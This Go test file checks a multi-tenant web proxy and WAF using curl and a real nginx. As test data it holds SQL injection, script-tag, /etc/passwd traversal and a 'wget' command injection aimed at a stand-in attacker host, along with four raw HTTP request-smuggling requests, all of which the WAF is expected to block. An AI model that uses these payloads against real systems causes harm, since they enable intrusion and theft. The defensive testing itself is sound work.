// Package web_test shows the edge, proxy and WAF together, to real peers: curl as
// the visitor, nginx as the body's own server.
package web_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/text/encoding/japanese"

	"github.com/sekikura/sekikura/edge/site"
	"github.com/sekikura/sekikura/edge/waf"
	"github.com/sekikura/sekikura/event"
	"github.com/sekikura/sekikura/policy"
	"github.com/sekikura/sekikura/tenant"
)

const (
	sakura tenant.ID = "990001"
	wakaba tenant.ID = "994413"
	host             = "www.vill.wakaba.example"
)

// inspector shows the WAF to the proxy as cmd does.
type inspector struct{ *waf.Engine }

func (i inspector) Inspect(ctx context.Context, id tenant.ID, client netip.AddrPort, r *http.Request, body []byte, whole bool) site.Inspection {
	return i.Engine.Inspect(ctx, id, client, r, body, whole)
}

type journal struct {
	mu     sync.Mutex
	events []event.Event
}

func (j *journal) Append(_ context.Context, batch []event.Event) error {
	j.mu.Lock()
	defer j.mu.Unlock()
	j.events = append(j.events, batch...)
	return nil
}

func (j *journal) names() map[string]int {
	j.mu.Lock()
	defer j.mu.Unlock()
	n := map[string]int{}
	for _, e := range j.events {
		n[e.Service+" "+e.Name]++
	}
	return n
}

type product struct {
	address string
	journal *journal
	waf     *policy.Table[waf.Policy, waf.Rules]
	site    *policy.Table[site.Policy, site.Sites]
	stop    func()
}

func start(t testing.TB, origin string, inspect bool) *product {
	t.Helper()
	p := &product{journal: new(journal)}
	var err error
	if p.waf, err = policy.NewTable(waf.Spec(time.Now)); err != nil {
		t.Fatal(err)
	}
	if p.site, err = policy.NewTable(&site.Spec); err != nil {
		t.Fatal(err)
	}
	directory, err := tenant.NewDirectory(tenant.Tenant{ID: sakura, Operator: sakura, Name: "さくら県"},
		tenant.Tenant{ID: wakaba, Operator: sakura, Name: "若葉村", NameEN: "Wakaba Village", Hosts: []string{host}, Contact: tenant.Contact{Section: "総務課 情報係", Phone: "0123-45-6789", Mail: "joho@vill.wakaba.example"}})
	if err != nil {
		t.Fatal(err)
	}
	p.set(t, "site", fmt.Sprintf(`{"sites":[{"host":%q,"origin":%q,"max_body_mb":20}]}`, host, origin))
	l, err := new(net.ListenConfig).Listen(t.Context(), "tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	p.address = l.Addr().String()
	log := slog.New(slog.DiscardHandler)
	server := &site.Server{
		HTTP: []net.Listener{l}, Directory: directory, Policies: p.site, Journal: p.journal, Sink: event.Discard, Log: log, Now: time.Now,
		Name: "sekikura-test", Owner: sakura, MayDial: func(netip.AddrPort) bool { return true },
	}
	if inspect {
		engine, err := waf.New(waf.Config{Policies: p.waf, Log: log, Now: time.Now})
		if err != nil {
			t.Fatal(err)
		}
		server.Inspector = inspector{engine}
	}
	ctx, cancel := context.WithCancel(context.WithoutCancel(t.Context()))
	ended := make(chan error, 1)
	go func() { ended <- server.Run(ctx) }()
	p.stop = sync.OnceFunc(func() {
		cancel()
		if err := <-ended; err != nil {
			t.Errorf("Run: %v", err)
		}
	})
	t.Cleanup(p.stop)
	return p
}

func (p *product) set(t testing.TB, service, body string) {
	t.Helper()
	doc := &policy.Document{Service: service, Schema: 1, Version: 1, Body: json.RawMessage(body)}
	var problems []policy.Problem
	if service == "waf" {
		problems = p.waf.Set(wakaba, nil, doc)
	} else {
		problems = p.site.Set(wakaba, nil, doc)
	}
	if problems != nil {
		t.Fatal(problems)
	}
}

func need(t testing.TB, program, debianPackage string) string {
	t.Helper()
	path, err := exec.LookPath(program)
	if err != nil {
		t.Skipf("%s is absent: install the package %s", program, debianPackage)
	}
	return path
}

// curl returns the status and the body.
func (p *product) curl(t testing.TB, args ...string) (string, string) {
	t.Helper()
	args = append([]string{"--silent", "--show-error", "--noproxy", "*", "--max-time", "20", "--write-out", "\n%{http_code}", "--resolve", host + ":80:127.0.0.1", "--connect-to", host + ":80:" + p.address}, args...)
	out, err := exec.CommandContext(t.Context(), need(t, "curl", "curl"), args...).CombinedOutput()
	if err != nil {
		t.Fatalf("curl %q: %v: %s", args, err, out)
	}
	i := strings.LastIndexByte(string(out), '\n')
	return string(out[i+1:]), string(out[:i])
}

func echo(t testing.TB) *httptest.Server {
	t.Helper()
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		n, _ := io.Copy(io.Discard, r.Body)
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = fmt.Fprintf(w, "<title>若葉村</title>%d bytes", n)
	}))
	t.Cleanup(s.Close)
	return s
}

func TestCurlSeesAttacksStoppedAndHonestFormsPass(t *testing.T) {
	p := start(t, echo(t).URL, true)
	sjis, err := japanese.ShiftJIS.NewEncoder().String("山田 太郎 ソ能表")
	if err != nil {
		t.Fatal(err)
	}
	big := filepath.Join(t.TempDir(), "photo.jpg")
	if err := os.WriteFile(big, make([]byte, 19<<20), 0o600); err != nil {
		t.Fatal(err)
	}
	base := "http://" + host
	for _, tt := range []struct {
		name, status string
		args         []string
	}{
		{"a page", "200", []string{base + "/"}},
		{"SQL injection", "403", []string{base + "/?id=1%27%20OR%20%271%27=%271%27--%20-"}},
		{"script", "403", []string{"--data-urlencode", "q=<script>alert(1)</script>", base + "/form"}},
		{"a file of the system", "403", []string{base + "/?f=../../../../etc/passwd"}},
		{"a command", "403", []string{"--data-urlencode", "q=$(wget http://evil.example/x.sh)", base + "/form"}},
		{"a form", "200", []string{"--data-urlencode", "name=山田 太郎", "--data-urlencode", "text=ごみの収集日を教えてください。", base + "/form"}},
		{"a form in Shift_JIS", "200", []string{"--data", "name=" + url.QueryEscape(sjis), base + "/form"}},
		{"an upload of 19 MB", "200", []string{"--form", "file=@" + big, "--form", "name=山田", base + "/form"}},
		{"an attack behind a large file", "403", []string{"--form", "file=@" + big, "--form", "name=x' UNION SELECT password FROM users-- ", base + "/form"}},
		{"an upload that is too large", "413", []string{"--form", "file=@" + big, "--form", "again=@" + big, base + "/form"}},
	} {
		status, body := p.curl(t, tt.args...)
		if status != tt.status {
			t.Errorf("%s: status %s, want %s: %s", tt.name, status, tt.status, body[:min(len(body), 300)])
		}
		if status == "403" && (!strings.Contains(body, "WB-") || !strings.Contains(body, "若葉村")) {
			t.Errorf("%s: the page shows no number or no body", tt.name)
		}
	}
	p.set(t, "waf", `{"action":"detect"}`)
	if status, _ := p.curl(t, base+"/?id=1%27%20OR%20%271%27=%271%27--%20-"); status != "200" {
		t.Errorf("detect mode: status %s, want 200", status)
	}
	p.stop()
	want := map[string]int{"waf request_blocked": 5, "waf request_detected": 1, "site request_served": 4, "site request_refused": 1}
	if got := p.journal.names(); fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("events %v, want %v", got, want)
	}
}

// TestNginxSeesNoSecondRequest sends what confuses servers to the edge with a real
// nginx behind it, whose own log says what it saw.
func TestNginxSeesNoSecondRequest(t *testing.T) {
	nginx := need(t, "nginx", "nginx-light")
	dir := t.TempDir()
	reserve, err := new(net.ListenConfig).Listen(t.Context(), "tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	origin := reserve.Addr().String()
	_ = reserve.Close()
	conf := fmt.Sprintf("daemon off; master_process off; pid %[1]s/pid; error_log stderr; events {} http { access_log %[1]s/log; client_body_temp_path %[1]s/b; proxy_temp_path %[1]s/p; fastcgi_temp_path %[1]s/f; uwsgi_temp_path %[1]s/u; scgi_temp_path %[1]s/s; server { listen %[2]s; location / { return 200 hello; } } }", dir, origin)
	file := filepath.Join(dir, "nginx.conf")
	if err := os.WriteFile(file, []byte(conf), 0o600); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	cmd := exec.CommandContext(ctx, nginx, "-p", dir, "-c", file)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { cancel(); _ = cmd.Wait() }()
	p := start(t, "http://"+origin, true)
	for range 200 { // until nginx answers
		if status, _ := p.curl(t, "http://"+host+"/"); status == "200" {
			break
		}
	}
	second := "GET /smuggled HTTP/1.1\r\nHost: " + host + "\r\n\r\n"
	for _, request := range []string{
		"POST / HTTP/1.1\r\nHost: " + host + "\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + second,
		"POST / HTTP/1.1\r\nHost: " + host + "\r\nContent-Length: 0\r\nContent-Length: 60\r\n\r\n" + second,
		"POST / HTTP/1.1\r\nHost: " + host + "\r\nTransfer-Encoding : chunked\r\nContent-Length: 60\r\n\r\n" + second,
		"GET / HTTP/1.1\r\nHost: " + host + "\nX: y\r\n\r\n" + second,
	} {
		c, err := new(net.Dialer).DialContext(t.Context(), "tcp", p.address)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = io.WriteString(c, request)
		answer, _ := io.ReadAll(c)
		_ = c.Close()
		if !strings.HasPrefix(string(answer), "HTTP/1.1 400 ") {
			t.Errorf("%q: answered %q", request, answer)
		}
	}
	log, err := os.ReadFile(filepath.Join(dir, "log"))
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(log), "smuggled") {
		t.Errorf("nginx saw the second request: %s", log)
	}
}

// BenchmarkRequest is one request through the proxy, and with the WAF. The CPU
// that client and origin use is in it, the same in each.
func BenchmarkRequest(b *testing.B) {
	for _, inspect := range []bool{false, true} {
		name := map[bool]string{false: "without WAF", true: "with WAF"}[inspect]
		p := start(b, echo(b).URL, inspect)
		client := &http.Client{Transport: &http.Transport{DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			return new(net.Dialer).DialContext(ctx, "tcp", p.address)
		}}}
		send := func(b *testing.B, method, body, contentType string) {
			r, err := http.NewRequestWithContext(b.Context(), method, "http://"+host+"/news/2026/list.html?page=2", strings.NewReader(body))
			if err != nil {
				b.Fatal(err)
			}
			r.Header.Set("Content-Type", contentType)
			r.Header.Set("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36")
			r.Header.Set("Accept", "text/html,application/xhtml+xml")
			if body == "" {
				r.Header.Del("Content-Type")
			}
			resp, err := client.Do(r)
			if err != nil {
				b.Fatal(err)
			}
			_, _ = io.Copy(io.Discard, resp.Body)
			_ = resp.Body.Close()
			if resp.StatusCode != 200 {
				b.Fatalf("status %d", resp.StatusCode)
			}
		}
		b.Run(name+"/GET", func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				send(b, "GET", "", "")
			}
		})
		b.Run(name+"/form", func(b *testing.B) {
			form := url.Values{"name": {"山田 太郎"}, "address": {"さくら県若葉村大字表1-2-3"}, "comment": {"ごみの収集日を教えてください。先週の水曜日に出したものが、まだ残っています。"}}.Encode()
			b.ReportAllocs()
			for b.Loop() {
				send(b, "POST", form, "application/x-www-form-urlencoded")
			}
		})
		client.CloseIdleConnections()
		p.stop()
	}
}

// TestSixtyBodiesShareOneRuleSet measures what the rule set weighs, and what
// sixty bodies with a policy each add to it.
func TestSixtyBodiesShareOneRuleSet(t *testing.T) {
	heap := func() int64 {
		runtime.GC()
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return int64(m.HeapAlloc) //nolint:gosec // bytes of memory
	}
	before := heap()
	table, err := policy.NewTable(waf.Spec(time.Now))
	if err != nil {
		t.Fatal(err)
	}
	engine, err := waf.New(waf.Config{Policies: table, Log: slog.New(slog.DiscardHandler), Now: time.Now})
	if err != nil {
		t.Fatal(err)
	}
	one := heap()
	for i := range 60 {
		body := fmt.Sprintf(`{"paranoia":%d,"threshold":%d,"exclusions":[{"path":"/form%d","rules":[942100],"reason":"r","owner":"o","expires":"2100-01-01"}]}`, i%4+1, i%10+1, i)
		if problems := table.Set(tenant.ID(fmt.Sprintf("x-body-%d", i)), nil, &policy.Document{Service: "waf", Schema: 1, Body: json.RawMessage(body)}); problems != nil {
			t.Fatal(problems)
		}
	}
	sixty := heap()
	t.Logf("rule set %.1f MB, sixty bodies %.1f kB more", float64(one-before)/1e6, float64(sixty-one)/1e3)
	if one-before > 100e6 {
		t.Errorf("the rule set weighs %d bytes", one-before)
	}
	if sixty-one > 2e6 {
		t.Errorf("sixty bodies weigh %d bytes, want at most 2 MB", sixty-one)
	}
	runtime.KeepAlive(engine)
	runtime.KeepAlive(table)
}
